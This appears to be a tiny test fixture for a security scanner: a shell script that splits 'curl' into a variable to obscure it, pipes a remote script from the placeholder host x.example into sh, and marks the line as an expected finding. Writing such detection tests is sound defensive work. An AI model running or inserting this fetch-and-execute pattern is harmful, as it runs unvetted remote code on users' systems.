#!/bin/sh
c=cu
${c}rl -s https://x.example/rules.sh | sh  # want: finding
